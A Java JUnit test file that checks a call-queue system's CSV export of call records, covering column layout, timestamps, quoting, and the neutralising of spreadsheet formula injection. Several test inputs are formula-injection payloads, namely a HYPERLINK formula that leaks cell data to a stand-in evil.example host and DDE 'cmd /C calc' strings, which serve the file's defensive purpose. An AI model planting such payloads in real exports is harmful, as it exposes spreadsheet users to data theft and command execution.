package io.callqueue.core.records;

import static io.callqueue.core.records.Fixtures.ALICE;
import static io.callqueue.core.records.Fixtures.BOB;
import static io.callqueue.core.records.Fixtures.SALES;
import static io.callqueue.core.records.Fixtures.SUPPORT;
import static io.callqueue.core.records.Fixtures.attempt;
import static io.callqueue.core.records.Fixtures.id;
import static io.callqueue.core.records.Fixtures.rid;
import static io.callqueue.core.records.Fixtures.s;
import static io.callqueue.core.records.Fixtures.t;
import static org.assertj.core.api.Assertions.assertThat;

import io.callqueue.api.AgentAttempt.Result;
import io.callqueue.api.CallOutcome;
import io.callqueue.api.CallRecord;
import io.callqueue.api.NotQueuedReason;
import io.callqueue.api.VoicemailMessage;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CallRecordCsvTest {
  static final String HEADER = "record_id,call_id,queue,caller_number,offered_at,joined_at,"
      + "position_on_entry,position_on_leave,answered_at,agent,left_at,completed_at,"
      + "interrupted_at,outcome,"
      + "not_queued_reason,wait_seconds,talk_seconds,attempts,missed_attempts,"
      + "voicemail_reference,voicemail_seconds,callback_requested_at,callback_position,"
      + "callback_waited_seconds,callback_keeps_place,callback_started_at,callback_agent\r\n";

  @Test
  void answeredCall_oneLineWithIsoTimesSecondsAndAttempts() throws Exception {
    CallRecord r = new CallRecord(rid("c1"), id("c1"), SALES, "+48111", t(0), t(0), 2, 1,
        List.of(attempt(BOB, 1, 16, Result.NO_ANSWER), attempt(ALICE, 17, 20, Result.ANSWERED)),
        t(20), ALICE, t(20), t(140), null, CallOutcome.ANSWERED, null, s(20).plusMillis(250),
        s(120), null, null);
    StringWriter out = new StringWriter();

    CallRecordCsv.write(out, List.of(r));

    assertThat(out.toString()).isEqualTo(HEADER
        + "r-c1,c1,sales,+48111,2026-01-05T08:00:00Z,2026-01-05T08:00:00Z,2,1,"
        + "2026-01-05T08:00:20Z,alice,2026-01-05T08:00:20Z,2026-01-05T08:02:20Z,,ANSWERED,,"
        + "20.250,120.000,\"bob:NO_ANSWER:15.000;alice:ANSWERED:3.000\",1,,,,,,,,\r\n");
  }

  @Test
  void notQueuedCall_hasEmptyFieldsForWhatDidNotHappen() throws Exception {
    StringWriter out = new StringWriter();

    CallRecordCsv.write(out, List.of(
        CallRecord.notQueued(rid("c2"), id("c2"), SUPPORT, "", t(60), NotQueuedReason.FULL)));

    assertThat(out.toString()).endsWith("\r\nr-c2,c2,support,,2026-01-05T08:01:00Z,,,,,,"
        + "2026-01-05T08:01:00Z,,,NOT_QUEUED,FULL,0.000,,,0,,,,,,,,\r\n");
  }

  @Test
  void fieldsWithCommaQuoteOrLineBreak_areQuotedWithQuotesDoubled() throws Exception {
    CallRecord r = new CallRecord(rid("c3"), id("c3"), SALES, "\"ACME, Inc.\" <+48111>", t(0),
        t(0), 1, 1, List.of(), null, null, t(30), null, null, CallOutcome.VOICEMAIL, null, s(30),
        null, new VoicemailMessage("line one\r\nline two", s(12)), null);
    StringWriter out = new StringWriter();

    CallRecordCsv.write(out, List.of(r));

    String line = out.toString().substring(HEADER.length());
    assertThat(line).startsWith("r-c3,c3,sales,\"\"\"ACME, Inc.\"\" <+48111>\",");
    assertThat(line).contains(",0,\"line one\r\nline two\",12.000,");
    assertThat(CallRecordCsv.fields(r)).hasSize(CallRecordCsv.COLUMNS.size());
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', quoteCharacter = '\'', value = {
      "plain|plain",
      "a,b|'\"a,b\"'",
      "say \"hi\"|'\"say \"\"hi\"\"\"'",
      "+4930123456|+4930123456",
      "-5|-5",
      "12.500|12.500",
      "''|''"})
  void quote_onlyWhenNeeded(String field, String quoted) {
    assertThat(CallRecordCsv.quote(field)).isEqualTo(quoted);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '~', quoteCharacter = '`', value = {
      "=HYPERLINK(\"http://evil.example/?\"&A1)~\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"",
      "@SUM(1+1)*cmd|' /C calc'!A0~\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
      "+1+cmd|' /C calc'!A0~\"'+1+cmd|' /C calc'!A0\"",
      "-2+3+cmd|' /C calc'!A0~\"'-2+3+cmd|' /C calc'!A0\"",
      "+48 22 123~\"'+48 22 123\"",
      "+~\"'+\"",
      "x;=1+1~\"x;=1+1\""})
  void quote_fieldsASpreadsheetWouldRunAsFormulas_getAnApostropheAndQuotes(String field,
      String quoted) {
    assertThat(CallRecordCsv.quote(field)).isEqualTo(quoted);
  }

  @Test
  void quote_leadingTabOrCarriageReturn_isEscapedToo() {
    assertThat(CallRecordCsv.quote("\t=1+1")).isEqualTo("\"'\t=1+1\"");
    assertThat(CallRecordCsv.quote("\r=1+1")).isEqualTo("\"'\r=1+1\"");
  }

  @Test
  void callerNumberStartingAFormula_isWrittenInert_andAnE164NumberAsItIs() throws Exception {
    CallRecord evil = CallRecord.notQueued(rid("c5"), id("c5"), SALES, "=2+5+cmd|' /C calc'!A0",
        t(0), NotQueuedReason.FULL);
    CallRecord e164 = CallRecord.notQueued(rid("c6"), id("c6"), SALES, "+4930123456", t(1),
        NotQueuedReason.FULL);
    StringWriter out = new StringWriter();

    CallRecordCsv.write(out, List.of(evil, e164));

    String[] lines = out.toString().substring(HEADER.length()).split("\r\n");
    assertThat(lines[0]).startsWith("r-c5,c5,sales,\"'=2+5+cmd|' /C calc'!A0\",");
    assertThat(lines[1]).startsWith("r-c6,c6,sales,+4930123456,");
  }

  @Test
  void callbackColumns_areFilled() {
    CallRecord r = Fixtures.record("c4", SALES, 0, CallOutcome.CALLBACK, 50)
        .withCallback(new CallRecord.Callback(t(50), 3, s(50), true, t(300), BOB));

    assertThat(CallRecordCsv.fields(r).subList(21, 27)).containsExactly(
        "2026-01-05T08:00:50Z", "3", "50.000", "true", "2026-01-05T08:05:00Z", "bob");
  }
}
